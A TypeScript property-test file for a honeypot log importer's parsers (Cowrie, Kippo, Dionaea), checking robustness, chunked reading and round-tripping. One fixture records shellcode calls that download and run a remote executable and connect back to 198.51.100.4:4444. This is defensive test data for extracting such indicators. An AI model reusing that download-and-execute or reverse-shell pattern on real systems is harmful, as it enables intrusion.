// Property tests for the importers' parsers: hostile or random input never throws, input split at
// any point reads the same as whole input, and encoders round-trip through their decoders.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { LineSplitter, MAX_LINE_BYTES } from '../../src/importers/core/lines.js';
import { OccurrenceCounter, parseTimestamp, orderRotated } from '../../src/importers/core/import-core.js';
import { decodeCowrieLine, decodePyRepr, dataBytes, durationMs, stripRepr } from '../../src/importers/cowrie/cowrie-json.js';
import { decodeEnvRequest, decodeLoginAttempt, decodeNewConnection, decodeTwistedLine, transportOf } from '../../src/importers/kippo/twisted-log.js';
import { decodeTtyLog, encodeTtyRecord, ttyToAsciicast, type TtyRecord } from '../../src/importers/kippo/ttylog.js';
import { decodeEmuProfile } from '../../src/importers/dionaea/emu-profile.js';

const RUNS = { numRuns: 300 };

function splitAll(chunks: Buffer[], maxBytes?: number): { n: number; text: string; tooLong: boolean; unterminated: boolean }[] {
  const s = new LineSplitter(maxBytes);
  return [...chunks.flatMap((c) => s.push(c)), ...s.end()];
}

test('LineSplitter: any split of the input gives the same lines as the whole', () => {
  const text = fc.array(fc.oneof(fc.string({ maxLength: 20 }), fc.constantFrom('\n', '\r\n', '{"a":1}\n', 'é\n', '\u{1F600}')), { maxLength: 40 }).map((a) => a.join(''));
  fc.assert(
    fc.property(text, fc.array(fc.nat(), { maxLength: 8 }), (t, cuts) => {
      const buf = Buffer.from(t, 'utf8');
      const points = [...new Set(cuts.map((c) => c % (buf.length + 1)))].sort((a, b) => a - b);
      const chunks: Buffer[] = [];
      let prev = 0;
      for (const p of points) {
        chunks.push(buf.subarray(prev, p));
        prev = p;
      }
      chunks.push(buf.subarray(prev));
      const whole = splitAll([buf]);
      assert.deepEqual(splitAll(chunks), whole);
      // Lines wholly inside a chunk are decoded in place, the others put together from pieces: with a
      // small cap (some lines too long) and one byte at a time (never in place), the same lines.
      const capped = splitAll([buf], 8);
      assert.deepEqual(splitAll(chunks, 8), capped);
      assert.deepEqual(splitAll([...buf].map((b) => Buffer.from([b])), 8), capped);
      // And the lines are the text's lines.
      const expected = t.split('\n');
      if (expected[expected.length - 1] === '') expected.pop();
      assert.deepEqual(
        whole.map((l) => l.text),
        expected.map((l) => (l.endsWith('\r') ? l.slice(0, -1) : l)),
      );
    }),
    RUNS,
  );
});

test('LineSplitter: a line over MAX_LINE_BYTES is reported as too long and the next line survives', () => {
  const s = new LineSplitter();
  const big = Buffer.alloc(MAX_LINE_BYTES + 10, 0x61);
  const lines = [...s.push(big.subarray(0, 1000)), ...s.push(big.subarray(1000)), ...s.push(Buffer.from('\nnext\n')), ...s.end()];
  assert.deepEqual(
    lines.map((l) => [l.n, l.tooLong, l.text]),
    [
      [1, true, ''],
      [2, false, 'next'],
    ],
  );
});

test('decodeCowrieLine never throws, on random text and on real-looking lines cut anywhere', () => {
  const line = JSON.stringify({ eventid: 'cowrie.login.failed', username: 'root', password: 'x"y\\z', timestamp: '2019-07-08T09:57:26.591012Z', src_ip: '192.0.2.1', session: 'abc' });
  fc.assert(
    fc.property(fc.oneof(fc.string(), fc.json(), fc.nat(line.length).map((n) => line.slice(0, n))), (t) => {
      const r = decodeCowrieLine(t);
      assert.ok(['ok', 'malformed', 'unknown'].includes(r.kind));
      if (r.kind === 'ok') assert.ok(Number.isFinite(r.record.timeMs));
    }),
    RUNS,
  );
  assert.equal(decodeCowrieLine(line).kind, 'ok');
  assert.deepEqual(decodeCowrieLine(line.slice(0, 30)), { kind: 'malformed', reason: 'truncated JSON line' });
});

test('Python bytes reprs: encoding any bytes and decoding gives them back; stripRepr and dataBytes never throw', () => {
  const encode = (b: Uint8Array): string =>
    [...b].map((c) => (c === 0x5c ? '\\\\' : c === 0x27 ? "\\'" : c === 10 ? '\\n' : c >= 0x20 && c < 0x7f ? String.fromCharCode(c) : `\\x${c.toString(16).padStart(2, '0')}`)).join('');
  fc.assert(
    fc.property(fc.uint8Array({ maxLength: 200 }), (b) => {
      assert.deepEqual([...decodePyRepr(encode(b))], [...b]);
      assert.deepEqual([...dataBytes(`b'${encode(b)}'`)], [...b]);
    }),
    RUNS,
  );
  fc.assert(
    fc.property(fc.string(), (s) => {
      stripRepr(s);
      dataBytes(s);
      decodePyRepr(s);
      durationMs({ duration: s, duration_ms: s });
    }),
    RUNS,
  );
  assert.equal(stripRepr("b'SSH-2.0-Go'"), 'SSH-2.0-Go');
  assert.equal(stripRepr("'SSH-2.0-PUTTY'"), 'SSH-2.0-PUTTY');
});

test('Twisted log line decoders never throw on random text', () => {
  fc.assert(
    fc.property(fc.oneof(fc.string(), fc.string().map((s) => `2017-04-06 16:18:37-0700 [HoneyPotTransport,3,192.168.86.10] ${s}`)), (t) => {
      const d = decodeTwistedLine(t);
      assert.ok(['message', 'continuation', 'malformed'].includes(d.kind));
      if (d.kind === 'message') {
        transportOf(d.context);
        decodeNewConnection(d.message);
        decodeLoginAttempt(d.message);
        decodeEnvRequest(d.message);
      }
    }),
    RUNS,
  );
  assert.deepEqual(decodeLoginAttempt('login attempt [root/pa/ss] failed'), { username: 'root', password: 'pa/ss', success: false });
  assert.deepEqual(decodeEnvRequest("request_env: '\\x00\\x00\\x00\\x04LANG\\x00\\x00\\x00\\x0ben_US.UTF-8'"), { name: 'LANG', value: 'en_US.UTF-8' });
  assert.equal(decodeEnvRequest("request_env: '\\x00\\x00\\x00\\x99LANG'"), undefined, 'a length past the end is refused');
});

test('parseTimestamp: every ISO time round-trips; offsets apply; junk gives NaN, never a throw', () => {
  fc.assert(
    fc.property(fc.date({ min: new Date('1971-01-01Z'), max: new Date('2099-12-31Z'), noInvalidDate: true }), (d) => {
      assert.equal(parseTimestamp(d.toISOString()), d.getTime());
      assert.equal(parseTimestamp(d.toISOString().replace('Z', '+0000')), d.getTime());
    }),
    RUNS,
  );
  fc.assert(fc.property(fc.string(), (s) => void parseTimestamp(s)), RUNS);
  assert.equal(parseTimestamp('2017-04-06 10:51:38-0700'), Date.parse('2017-04-06T17:51:38Z'));
  assert.ok(Number.isNaN(parseTimestamp('2017-13-06 10:51:38')));
});

const ttyRecord = fc.record({
  op: fc.integer({ min: 1, max: 4 }),
  tty: fc.nat(),
  direction: fc.integer({ min: 1, max: 3 }),
  time: fc.integer({ min: 1_000_000_000, max: 2_000_000_000 }).chain((s) => fc.integer({ min: 0, max: 999_999 }).map((us) => s + us / 1e6)),
  // Random bytes, or a piece of UTF-8 text cut anywhere (a character may continue in the next record).
  data: fc.oneof(
    fc.uint8Array({ maxLength: 64 }).map((a) => Buffer.from(a)),
    fc.tuple(fc.string({ unit: 'grapheme', maxLength: 12 }), fc.nat(), fc.nat()).map(([t, a, b]) => {
      const u = Buffer.from(t, 'utf8');
      return u.subarray(Math.min(a, b) % (u.length + 1), Math.max(a, b) % (u.length + 1));
    }),
  ),
});

test('TTY logs: encode -> decode round-trips; a cut anywhere keeps the complete records; random bytes never throw', () => {
  fc.assert(
    fc.property(fc.array(ttyRecord, { maxLength: 10 }), fc.nat(), (recs, cut) => {
      const buf = Buffer.concat(recs.map((r) => encodeTtyRecord(r as TtyRecord)));
      const d = decodeTtyLog(buf);
      assert.equal(d.kind, 'ok');
      assert.equal(d.records.length, recs.length);
      d.records.forEach((r, i) => {
        assert.equal(r.op, recs[i]!.op);
        assert.deepEqual([...r.data], [...recs[i]!.data]);
        assert.ok(Math.abs(r.time - recs[i]!.time) < 1e-5);
      });
      const at = buf.length === 0 ? 0 : cut % buf.length;
      const part = decodeTtyLog(buf.subarray(0, at));
      assert.equal(part.kind, 'ok');
      assert.ok(part.records.length <= recs.length && part.consumed <= at);
      const cast = ttyToAsciicast(d.records).text.trimEnd().split('\n');
      assert.equal(JSON.parse(cast[0]!).version, 2);
      // Each direction's text is its bytes decoded as one stream (a character may span records).
      const lines = cast.slice(1).map((l) => JSON.parse(l) as [number, string, string]);
      for (const [kind, dirs] of [['i', [1]], ['o', [0, 2, 3]]] as const) {
        const bytes = Buffer.concat(recs.filter((r) => r.op === 3 && (dirs as readonly number[]).includes(r.direction)).map((r) => Buffer.from(r.data)));
        assert.equal(lines.filter((l) => l[1] === kind).map((l) => l[2]).join(''), bytes.toString('utf8'));
      }
    }),
    RUNS,
  );
  fc.assert(fc.property(fc.uint8Array({ maxLength: 300 }), (b) => void decodeTtyLog(Buffer.from(b))), RUNS);
});

test('emulator profiles: any text is read without throwing; URLs, commands and shells are found', () => {
  fc.assert(fc.property(fc.oneof(fc.string(), fc.json()), (s) => void decodeEmuProfile(s)), RUNS);
  const profile = JSON.stringify([
    { call: 'LoadLibraryA', args: ['urlmon'], return: '0x7df20000' },
    { call: 'URLDownloadToFile', args: ['', 'http://198.51.100.3/nn.exe', '54.scr', '0', '0'], return: '0' },
    { call: 'WinExec', args: ['54.scr', '895'], return: '32' },
    { call: 'connect', args: ['66', { sin_family: '2', sin_port: '4444', sin_addr: { s_addr: '198.51.100.4' } }, '16'], return: '0' },
  ]);
  assert.deepEqual(decodeEmuProfile(profile), { urls: ['http://198.51.100.3/nn.exe'], commands: ['54.scr'], connect_back: '198.51.100.4:4444' });
});

test('orderRotated: numbered rotations highest first, dated ones by date, the live file last; sets keep their order', () => {
  assert.deepEqual(orderRotated(['/l/kippo.log', '/l/kippo.log.1', '/l/kippo.log.2.gz', '/c/cowrie.json', '/c/cowrie.json.2019-07-08', '/c/cowrie.json.2019-07-07']), [
    '/l/kippo.log.2.gz',
    '/l/kippo.log.1',
    '/l/kippo.log',
    '/c/cowrie.json.2019-07-07',
    '/c/cowrie.json.2019-07-08',
    '/c/cowrie.json',
  ]);
});

const LONG_A = `${'x'.repeat(20_000)}a`;
const LONG_B = `${'x'.repeat(20_000)}b`;

test('OccurrenceCounter numbers repeats of a key at one stamp, like a plain count per (stamp run, key)', () => {
  fc.assert(
    // Long keys too (counted by their digest): same length, different only at the end.
    fc.property(fc.array(fc.tuple(fc.constantFrom('t1', 't2', 't3'), fc.constantFrom('a', 'b', 'c', LONG_A, LONG_B)), { maxLength: 40 }), (seq) => {
      const c = new OccurrenceCounter();
      let stamp: string | undefined;
      let counts = new Map<string, number>();
      for (const [t, k] of seq) {
        if (t !== stamp) {
          stamp = t;
          counts = new Map();
        }
        const want = counts.get(k) ?? 0;
        counts.set(k, want + 1);
        assert.equal(c.next(t, k), want);
      }
    }),
    RUNS,
  );
});
